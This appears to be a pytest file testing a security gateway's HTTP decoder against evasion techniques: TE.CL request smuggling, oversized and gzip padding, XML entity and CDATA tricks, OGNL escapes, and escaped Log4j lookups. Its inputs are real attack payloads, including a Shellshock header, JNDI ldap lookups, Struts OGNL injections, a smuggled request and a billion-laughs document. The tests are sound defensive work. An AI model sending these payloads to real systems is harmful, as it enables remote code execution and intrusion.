"""What the HTTP decoder makes of requests written to slip past an inspecting gateway, each
as the server or the parser behind it reads it: method tokens in any case, TE.CL request
smuggling, padding past the body's inspection window, compressed padding, XML references,
entities, CDATA and comments, OGNL's Java unicode escapes and blanks, folded multipart part
headers, backslash-u escapes around a Log4j lookup. Fed whole and one byte at a time."""

from __future__ import annotations

import gzip

import pytest

from gateway.decode import http_body, registry
from gateway.decode.app import HttpAdapter
from gateway.decode.http import MAX_BODY_INSPECT, NEED_DATA, HttpDecodeError, HttpRequestDecoder
from gateway.decode.http import Request as HttpRequest
from gateway.decode.http_fields import multipart_params, ognl_form, xml_text
from gateway.decode.registry import AppRecord, FieldValue
from gateway.vocabulary import PROTO_TCP, Direction


def records(stream: bytes, step: int | None = None) -> list[AppRecord]:
    """The records of `stream` fed whole or `step` bytes at a time, recovering after errors
    as the engine does."""
    adapter = HttpAdapter()
    pieces = (
        [stream] if step is None else [stream[i : i + step] for i in range(0, len(stream), step)]
    )
    out: list[AppRecord] = []
    for piece in pieces:
        out += adapter.feed(piece)
        while adapter.refused is not None:
            adapter.recover()
            out += adapter.feed(b"")
    return out


def values(recs: list[AppRecord], name: str) -> bytes:
    """Every value and variant of field `name` over `recs`, one per line."""
    found: list[bytes] = []
    for rec in recs:
        for key, value in rec.fields.items():
            if (key == name or key.startswith(name + "#")) and isinstance(value, bytes):
                found.append(value)
    return b"\n".join(found)


def post(target: bytes, headers: bytes, body: bytes) -> bytes:
    return (
        b"POST "
        + target
        + b" HTTP/1.1\r\nHost: a\r\n"
        + headers
        + b"Content-Length: %d\r\n\r\n" % len(body)
        + body
    )


# ----------------------------------------------------------------------------- method tokens


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"get /cgi-bin/x HTTP/1.1\r\n", ("http", True)),
        (b"Post /x HTTP/1.0\r\n", ("http", True)),
        (b"get http://a/x HTTP/1.1\r\n", ("http", True)),
        (b"get /" + b"a" * 100, ("http", True)),  # the line goes on past the probe's bytes
        (b"get", (None, False)),
        (b"get ht", (None, False)),
        (b"ehlo mail.example\r\n", (None, True)),
        (b"user anonymous\r\n", (None, True)),
        (b"get /x not-http\r\n", (None, True)),
    ],
)
def test_any_method_token_before_a_target_is_http(
    data: bytes, expected: tuple[str | None, bool]
) -> None:
    got = registry.identify(["http", "tls"], PROTO_TCP, 9000, Direction.TO_SERVER, data)
    assert got == expected


def test_a_lower_case_method_is_decoded() -> None:
    recs = records(b"get /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; id\r\n\r\n")
    assert values(recs, "http.method") == b"get"
    assert b"user-agent: () {" in values(recs, "http.header_lines")


# ----------------------------------------------------------------------------- smuggling

HIDDEN = b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :; }; id\r\n\r\n"


def smuggling(te: bytes) -> bytes:
    size = b"%x\r\n" % len(HIDDEN)
    head = b"POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: " + te
    head += b"\r\nContent-Length: %d\r\n\r\n" % len(size)
    return head + size + HIDDEN + b"\r\n0\r\n\r\n"


@pytest.mark.parametrize("te", [b"xchunked", b"gzip, chunked", b"chunked, identity", b"identity"])
@pytest.mark.parametrize("step", [None, 1, 5])
def test_te_cl_smuggling_refuses_the_body_and_finds_the_hidden_request(
    te: bytes, step: int | None
) -> None:
    """A Transfer-Encoding other than plain chunked next to a Content-Length: Apache 2.2 reads
    the length (and then the hidden request), Apache 2.4 the chunks or nothing. The head is
    handed on, its body refused, and decoding resumes at the hidden request."""
    stream = smuggling(te)
    dec = HttpRequestDecoder()
    pieces = (
        [stream] if step is None else [stream[i : i + step] for i in range(0, len(stream), step)]
    )
    uris: list[str] = []
    errors = 0
    for piece in pieces:
        dec.receive_data(piece)
        while True:
            try:
                ev = dec.next_event()
            except HttpDecodeError as err:
                assert "servers frame the body differently" in str(err) or errors
                errors += 1
                dec.recover()
                continue
            if ev is NEED_DATA:
                break
            if isinstance(ev, HttpRequest):
                uris.append(ev.uri)
    assert uris[:2] == ["/a", "/cgi-bin/x"]
    assert errors >= 1


def test_plain_chunked_with_a_content_length_is_chunked() -> None:
    stream = (
        b"POST /a HTTP/1.1\r\nTransfer-Encoding: Chunked \r\nContent-Length: 3\r\n\r\n"
        b"5\r\nhello\r\n0\r\n\r\nGET /b HTTP/1.1\r\n\r\n"
    )
    recs = records(stream)
    assert b"hello" in values(recs, "http.body")
    assert values(recs, "http.uri").split(b"\n")[-1] == b"/b"


# ----------------------------------------------------------------------------- body windows

LOOKUP_PCT = b"%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.9%2Fa%7D"


@pytest.mark.parametrize("step", [None, 4099])
def test_a_parameter_behind_any_padding_is_inspected(step: int | None) -> None:
    form = b"application/x-www-form-urlencoded"
    for pad in (MAX_BODY_INSPECT - 10, MAX_BODY_INSPECT + 10, 5 * MAX_BODY_INSPECT):
        body = b"pad=" + b"A" * pad + b"&q=" + LOOKUP_PCT
        recs = records(post(b"/f", b"Content-Type: " + form + b"\r\n", body), step)
        assert b"${jndi:ldap://198.18.0.9/a}" in values(recs, "http.lookups"), pad
        assert all(len(r.fields.get("http.body", b"")) <= MAX_BODY_INSPECT for r in recs)


def test_compressed_padding_is_inflated_window_by_window_and_bounded() -> None:
    body = gzip.compress(b"pad=" + b"A" * 300_000 + b"&q=" + LOOKUP_PCT)
    headers = b"Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\n"
    recs = records(post(b"/f", headers, body), 1000)
    assert b"${jndi:ldap://198.18.0.9/a}" in values(recs, "http.lookups")
    bomb = gzip.compress(b"A" * (http_body.MAX_INFLATED + 1000))
    recs = records(post(b"/f", b"Content-Encoding: gzip\r\n", bomb))
    windows = http_body.MAX_INFLATED // (MAX_BODY_INSPECT - http_body.OVERLAP) + 2
    assert len(recs) <= windows + 1
    assert b"inflated past" in values(recs, "http.cut")


def test_a_body_that_does_not_inflate_is_kept_as_sent() -> None:
    recs = records(post(b"/f", b"Content-Encoding: gzip\r\n", b"q=" + LOOKUP_PCT))
    assert b"${jndi:" in values(recs, "http.lookups")


# ----------------------------------------------------------------------------- documents


@pytest.mark.parametrize(
    ("doc", "text"),
    [
        ("<a>&#36;{jndi:x}</a>", "<a>${jndi:x}</a>"),
        ("<a>&#x24;&#X7b;jndi:x&#x7D;</a>", "<a>${jndi:x}</a>"),
        ("<a>${jn<![CDATA[di:]]>x}</a>", "<a>${jndi:x}</a>"),
        ("<a>${jn<!-- c -->di:x}</a>", "<a>${jndi:x}</a>"),
        ("<a>&lt;&amp;&gt;&quot;&apos;</a>", "<a>&lt;&&gt;\"'</a>"),
        ("<a>&#60;java.lang.Runtime&#x3e;<![CDATA[<b>]]>&amp;</a>", "&lt;b>&</a>"),
        ('<!DOCTYPE a [<!ENTITY p "${jn"><!ENTITY q "&p;di">]><a>&q;:x}</a>', "${jndi:x}</a>"),
        ("<a>&undeclared; &#99999999;</a>", None),
        ("<a>plain</a>", None),
    ],
)
def test_xml_text_is_what_the_parser_hands_on(doc: str, text: str | None) -> None:
    got = xml_text(doc)
    if text is None:
        assert got is None
    else:
        assert got is not None and got.endswith(text)


def test_xml_expansion_stays_bounded() -> None:
    laughs = '<!DOCTYPE a [<!ENTITY l0 "' + "x" * 4000 + '">'
    for i in range(1, 6):
        laughs += f'<!ENTITY l{i} "' + f"&l{i - 1};" * 1000 + '">'
    got = xml_text(laughs + "]><a>" + "&l5;" * 10_000 + "</a>" + "<!--" * 20_000)
    assert got is not None and len(got) <= 64 * 1024


@pytest.mark.parametrize(
    ("text", "form"),
    [
        ("%{(#a=\\u0040ognl.OgnlContext\\u0040X)}", "%{(#a=@ognl.OgnlContext@X)}"),
        ("%{new java . lang . \\uu0052untime()}", "%{newjava.lang.Runtime()}"),
        ("%{'\\\\u0040'}", "%{'\\\\u0040'}"),  # an escaped backslash: no escape (no change)
        ("text/html; charset=utf-8", None),
        ("${price} and {x}", "${price}and{x}"),  # an expression: its blanks go
    ],
)
def test_ognl_form(text: str, form: str | None) -> None:
    got = ognl_form(text)
    assert got == (None if form == text else form)


def test_folded_part_headers_are_unfolded() -> None:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="f";\r\n filename="%{x}.txt"\r\n\r\n'
        b"data\r\n--b--\r\n"
    )
    assert multipart_params(body, "multipart/form-data; boundary=b").split("\n") == [
        "f=data",
        "filename=%{x}.txt",
    ]


def test_request_fields_carry_the_parsers_readings() -> None:
    xml = post(b"/x", b"Content-Type: application/xml\r\n", b"<a>&#36;{jndi:ldap://h/a}</a>")
    ognl = (
        b"GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(\\u0040java.lang.X)}"
        b"\r\n\r\n"
    )
    escaped = post(
        b"/f",
        b"Content-Type: application/x-www-form-urlencoded\r\n",
        b'data={"u":"\\u0024{jndi:ldap://h/b}"}',
    )
    for step in (None, 1):
        assert b"${jndi:ldap://h/a}" in values(records(xml, step), "http.lookups")
        assert b"@java.lang.X" in values(records(ognl, step), "http.header.content-type")
        assert b"${jndi:ldap://h/b}" in values(records(escaped, step), "http.lookups")


def test_ordinary_requests_get_no_reading_variants() -> None:
    plain = post(b"/f", b"Content-Type: application/xml\r\n", b"<a>plain text</a>")
    fields: dict[str, FieldValue] = {}
    for rec in records(plain):
        fields.update(rec.fields)
    assert not any("#" in key for key in fields)


def test_an_h2c_body_is_judged_window_by_window_too() -> None:
    from gateway.testing.h2c import h2c_stream

    body = b"pad=" + b"A" * (3 * MAX_BODY_INSPECT) + b"&q=" + LOOKUP_PCT
    head = (
        b"POST /f HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d" % len(body)
    )
    for upgrade in (False, True):
        recs = records(h2c_stream([(head, body)], upgrade=upgrade), 5000)
        assert b"${jndi:ldap://198.18.0.9/a}" in values(recs, "http.lookups"), upgrade


def test_a_header_name_holding_a_hash_never_looks_like_a_variant_key() -> None:
    """A header may be named "x#1" ("#" is a token character); in a record key "#" starts a
    variant (registry.variant_key), so the name is written %23 there, OGNL variant included."""
    (rec,) = records(b"GET / HTTP/1.1\r\nHost: a\r\nX#1: %{\\u0023a}\r\n\r\n")
    assert rec.fields["http.header.x%231"] == b"%{\\u0023a}"
    assert all("#" not in key or key.rsplit("#", 1)[1].isdigit() for key in rec.fields)
    assert not any(key.startswith("http.header.x#") for key in rec.fields)
